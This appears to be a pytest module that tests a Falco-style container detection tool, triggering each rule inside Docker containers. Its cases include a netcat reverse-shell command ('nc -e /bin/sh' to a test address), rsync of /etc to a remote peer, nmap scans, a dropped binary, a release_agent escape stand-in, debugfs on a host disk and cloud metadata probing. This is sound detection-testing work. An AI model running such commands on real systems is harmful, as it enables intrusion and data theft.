"""Every container rule of the default set, triggered inside a real Docker container.

One `bpfopa run` (kernel capture, managed OPA, the bundled policies, container metadata from
the engines) serves the module. Each test runs the action as a container's command and asserts
that exactly the expected alerts (rule titles, once each) arrive for that container, and that
they carry the runtime's metadata. Containers use `--network none`, or `--network host` when
the action needs the host's loopback or its route table (nothing is sent off the host).
"""

from __future__ import annotations

import json
import socket
import time
import warnings
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import require
from tests.container.conftest import ACT, TOOLS, kubelet_container, kubelet_sandbox
from tests.docker_engine import DockerEngine
from tests.kernel.rules_harness import LiveRun, host_has_default_route, is_drop

Alert = dict[str, Any]

# TEST-NET-2: never answers; a UDP connect() to it only looks up a route.
ROUTABLE_PEER = "198.51.100.1"
NET_TOOL = "Launch Suspicious Network Tool in Container"
EXCESSIVELY_CAPABLE = "Launch Excessively Capable Container"
PRIVILEGED = "Launch Privileged Container"
#: How long the run lets a new container's execs wait for its metadata.
EXEC_WAIT_MS = 3000
#: Images Launch Disallowed Container lets start (data.bpfopa.config.allowed_container_images).
ALLOWED_IMAGES = ["bpfopa-test-tools"]
NO_NETWORK = ("--network", "none")
HOST_NETWORK = ("--network", "host")


@pytest.fixture(scope="module")
def live(
    tmp_path_factory: pytest.TempPathFactory,
    docker_engine: DockerEngine,
    privileged_engine: DockerEngine,
) -> Iterator[LiveRun]:
    sockets = {docker_engine.socket, privileged_engine.socket}
    args = [arg for path in sorted(sockets) for arg in ("--runtime-socket", str(path))]
    # The evaluated document in each alert: the tests read its container metadata.
    args += ["--alert-document", "full"]
    # A container's first exec happens while the engine is still starting it, and the engine
    # answers inspect only once the start is done: on a shared, busy host that can take
    # longer than the default 500 ms (test_runtime_metadata.py tests the late path).
    args += ["--container-exec-wait-ms", str(EXEC_WAIT_MS)]
    allowed = tmp_path_factory.mktemp("allowed-images")
    (allowed / "data.json").write_text(
        json.dumps({"bpfopa": {"config": {"allowed_container_images": ALLOWED_IMAGES}}})
    )
    args += ["--policies", str(allowed)]
    # The one rule tested here that is off by default (Falco ships it disabled); the others
    # stay off, as in a default run.
    run = LiveRun(
        tmp_path_factory.mktemp("live-containers"),
        args=args,
        enabled_rules=["unexpected_k8s_nodeport_connection"],
    )
    # Compiling the probes takes long on a busy shared host.
    with run.running(timeout=240) as ready:
        yield ready


def container_of(alert: Alert) -> dict[str, Any]:
    if "input" not in alert:
        return {}
    found = alert["input"]["process"].get("container")
    return found if isinstance(found, dict) else {}


@dataclass
class Ran:
    container_id: str
    alerts: list[Alert]


def run_container(
    live: LiveRun,
    engine: DockerEngine,
    image: str,
    argv: Sequence[str],
    options: Sequence[str] = NO_NETWORK,
    expected: set[str] | None = None,
) -> Ran:
    """Run `argv` in a new container to its end and collect the alerts raised inside it.
    Repeated (up to 3 times) only when expected alerts are missing and bpfopa reported lost
    events meanwhile: the shared host was too busy for the run to see the action."""
    for _ in range(3):
        mark = len(live.alerts())
        cid = engine.docker("create", *options, image, *argv).stdout.strip()
        try:
            engine.docker("start", "-a", cid, check=False)
            # Generous: on a shared, busy host the run lags minutes behind at times.
            assert live.barrier(180), f"bpfopa run did not catch up within 180 s ({cid[:12]})"
            # The host's canary passes at once, while the container's events may still wait
            # for its metadata (EXEC_WAIT_MS): wait that long for them, and a little more for
            # unexpected extras.
            deadline = time.monotonic() + EXEC_WAIT_MS / 1000 + 1.0
            while time.monotonic() < deadline:
                alerts = [a for a in live.alerts() if container_of(a).get("full_id") == cid]
                if expected and expected <= {a["rule"] for a in alerts}:
                    break
                time.sleep(0.1)
            time.sleep(0.5)
        finally:
            engine.remove(cid)
        alerts = [a for a in live.alerts() if container_of(a).get("full_id") == cid]
        drops = [a for a in live.alerts()[mark:] if is_drop(a)]
        if expected is None or expected <= {a["rule"] for a in alerts} or not drops:
            break
        warnings.warn(f"bpfopa lost events in {cid[:12]}; repeating", stacklevel=2)
    return Ran(cid, alerts)


def assert_exactly(ran: Ran, expected: set[str], image: str) -> None:
    titles = Counter(a["rule"] for a in ran.alerts)
    assert set(titles) == expected, (
        f"{ran.container_id[:12]}: got {dict(titles)}, want {sorted(expected)}; "
        f"outputs: {[a.get('output') for a in ran.alerts]}"
    )
    assert all(n == 1 for n in titles.values()), f"duplicated alerts {dict(titles)}"
    repository, tag = image.split(":")
    for alert in ran.alerts:
        container = container_of(alert)
        assert container["metadata"] == "complete", container
        assert container["image"]["repository"] == repository
        assert container["image"]["tag"] == tag
        assert container["name"]
        fields = alert["output_fields"]
        assert fields["container.id"] == ran.container_id[:12]
        assert fields["container.name"] == container["name"]
        assert fields["container.image.repository"] == repository


@dataclass(frozen=True)
class Containers:
    """Runs actions in new containers of one engine and image, under the module's run."""

    live: LiveRun
    engine: DockerEngine
    image: str

    def check(
        self, argv: Sequence[str], expected: set[str], options: Sequence[str] = NO_NETWORK
    ) -> Ran:
        """Run ``argv`` in a container: exactly the ``expected`` alerts, with its metadata."""
        ran = run_container(self.live, self.engine, self.image, argv, options, expected)
        assert_exactly(ran, expected, self.image)
        return ran


@pytest.fixture
def containers(live: LiveRun, docker_engine: DockerEngine, tool_image: str) -> Containers:
    return Containers(live, docker_engine, tool_image)


@pytest.fixture
def privileged_containers(
    live: LiveRun, privileged_engine: DockerEngine, tool_image: str
) -> Containers:
    return Containers(live, privileged_engine, tool_image)


# --- programs run by name ------------------------------------------------------------------

EXEC_CASES: dict[str, tuple[tuple[str, ...], frozenset[str]]] = {
    "apt-get": (
        (TOOLS["apt-get"], "install", "-y", "nmap"),
        frozenset({"Launch Package Management Process in Container"}),
    ),
    "rsync": (
        (TOOLS["rsync"], "-a", "/etc", f"{ROUTABLE_PEER}:/x"),
        frozenset({"Launch Remote File Copy Tools in Container"}),
    ),
    "nmap": ((TOOLS["nmap"], "-sT", ROUTABLE_PEER), frozenset({NET_TOOL})),
    "nc -e": (
        (TOOLS["nc"], "-e", "/bin/sh", ROUTABLE_PEER, "4444"),
        frozenset({NET_TOOL, "Netcat Remote Code Execution in Container"}),
    ),
}


@pytest.mark.parametrize(("argv", "expected"), EXEC_CASES.values(), ids=EXEC_CASES.keys())
def test_exec_in_container(
    containers: Containers, argv: tuple[str, ...], expected: frozenset[str]
) -> None:
    containers.check(argv, set(expected))


def test_drop_and_execute_new_binary_in_container(containers: Containers) -> None:
    # A binary of the image (lower layer) runs without an alert; a copy written after the
    # container started lives in the upper layer.
    containers.check([ACT], set())
    containers.check(
        ["/bin/sh", "-c", f"cp {ACT} /tmp/dropped && /tmp/dropped"],
        {"Drop and execute new binary in container"},
    )


def test_terminal_shell_in_container(containers: Containers) -> None:
    # `docker run -t`: the container's shell gets a terminal; its parent is the runtime's shim.
    containers.check(
        ["/bin/sh", "-c", "exit 0"],
        {"Terminal shell in container"},
        ("-t", "--network", "none"),
    )


def test_packet_socket_created_in_container(containers: Containers) -> None:
    containers.check([ACT, "packet"], {"Packet socket created in container"})


@pytest.fixture
def loopback_listener() -> Iterator[tuple[str, int]]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    try:
        yield server.getsockname()
    finally:
        server.close()


def test_contact_k8s_api_server_from_container(
    containers: Containers, loopback_listener: tuple[str, int]
) -> None:
    # The pod's environment names the API server; a listener on the host's loopback plays it.
    host, port = loopback_listener
    env = ("-e", f"KUBERNETES_SERVICE_HOST={host}", "-e", f"KUBERNETES_SERVICE_PORT={port}")
    containers.check(
        [ACT, "tcp", host, str(port)],
        {"Contact K8S API Server From Container"},
        (*HOST_NETWORK, *env),
    )


def test_redirect_stdout_to_network_connection_in_container(
    containers: Containers, loopback_listener: tuple[str, int]
) -> None:
    host, port = loopback_listener
    containers.check(
        [ACT, "redirect", host, str(port)],
        {"Redirect STDOUT/STDIN to Network Connection in Container"},
        HOST_NETWORK,
    )


def _require_route() -> None:
    require(host_has_default_route(), "no default route: connect() to a routable peer fails")


def test_contact_ec2_instance_metadata_service_from_container(containers: Containers) -> None:
    _require_route()
    # UDP connect(): a route lookup towards 169.254.169.254, no packet sent.
    containers.check(
        [ACT, "udp", "169.254.169.254", "80"],
        {
            "Contact EC2 Instance Metadata Service From Container",
            "Contact cloud metadata service from container",
        },
        HOST_NETWORK,
    )


def test_unexpected_k8s_nodeport_connection(containers: Containers) -> None:
    _require_route()
    # UDP to a port outside Falco's expected UDP ports: Unexpected UDP Traffic fires too.
    containers.check(
        [ACT, "udp", ROUTABLE_PEER, "30080"],
        {"Unexpected K8s NodePort Connection", "Unexpected UDP Traffic"},
        HOST_NETWORK,
    )


def test_detect_release_agent_file_container_escapes(containers: Containers) -> None:
    # A file named like cgroup v1's release_agent (the rule matches the name), written by
    # root with CAP_SYS_ADMIN: writing the real one would be the escape itself. The writer is
    # the container's first process (vpid 1) and holds CAP_SYS_ADMIN: Launch Excessively
    # Capable Container fires too, as in Falco.
    containers.check(
        [ACT, "create", "/tmp/release_agent"],
        {"Detect release_agent File Container Escapes", EXCESSIVELY_CAPABLE},
        ("--network", "none", "--cap-add", "SYS_ADMIN"),
    )


# --- privileged containers -------------------------------------------------------------------


def test_debugfs_launched_in_privileged_container(
    containers: Containers, privileged_containers: Containers
) -> None:
    debugfs = [TOOLS["debugfs"], "-R", "ls", "/dev/sda1"]
    containers.check(debugfs, set())
    # debugfs is the privileged container's first process (vpid 1, every capability): Falco's
    # container-start audits fire too. A privileged container sees the host's devices: where
    # /dev/sda1 exists, debugfs opens it and Privileged Container Device Access fires as well.
    expected = {
        "Debugfs Launched in Privileged Container",
        "Launch Privileged Container",
        EXCESSIVELY_CAPABLE,
    }
    if Path("/dev/sda1").exists():
        expected.add("Privileged Container Device Access")
    ran = privileged_containers.check(
        debugfs,
        expected,
        ("--privileged", "--network", "none"),
    )
    assert all(container_of(a)["privileged"] is True for a in ran.alerts)


# --- containers starting (Falco's container_started: the exec of the container's pid 1) -------


def test_launch_privileged_container(privileged_containers: Containers) -> None:
    # A privileged container holds every capability: it is excessively capable too (Falco).
    ran = privileged_containers.check(
        [ACT],
        {PRIVILEGED, EXCESSIVELY_CAPABLE},
        ("--privileged", "--network", "none"),
    )
    assert all(a["input"]["process"]["vpid"] == 1 for a in ran.alerts)


def test_launch_excessively_capable_container(containers: Containers) -> None:
    containers.check(
        [ACT],
        {EXCESSIVELY_CAPABLE},
        ("--network", "none", "--cap-add", "SYS_ADMIN"),
    )


def test_launch_sensitive_mount_container(containers: Containers, tmp_path: Path) -> None:
    # Below /root: one of Falco's sensitive mount destinations (read-only, a test directory).
    containers.check(
        [ACT],
        {"Launch Sensitive Mount Container"},
        ("--network", "none", "-v", f"{tmp_path}:/root/data:ro"),
    )


def test_launch_disallowed_container(containers: Containers) -> None:
    # The same image under a name outside the allowed list.
    disallowed = "bpfopa-test-disallowed:" + containers.image.split(":")[1]
    containers.engine.docker("tag", containers.image, disallowed)
    try:
        replace(containers, image=disallowed).check([ACT], {"Launch Disallowed Container"})
    finally:
        containers.engine.docker("rmi", disallowed, check=False)


# --- pods (containers made the way the kubelet makes them through cri-dockerd) ---------------


def test_alert_in_a_pod_names_the_pod(containers: Containers) -> None:
    labels = {"app": "web", "app.kubernetes.io/part-of": "shop"}
    pod, sandbox = kubelet_sandbox(containers.engine, containers.image, labels)
    try:
        # A container of the pod runs nmap.
        ran = containers.check(
            [TOOLS["nmap"], "-sT", ROUTABLE_PEER],
            {NET_TOOL},
            kubelet_container(pod, "scanner", sandbox),
        )
    finally:
        containers.engine.remove(sandbox)
    (alert,) = ran.alerts
    assert container_of(alert)["pod"] == {**pod, "labels": labels, "ip": None}
    fields = alert["output_fields"]
    assert (fields["k8s.pod.name"], fields["k8s.ns.name"]) == (pod["name"], pod["namespace"])
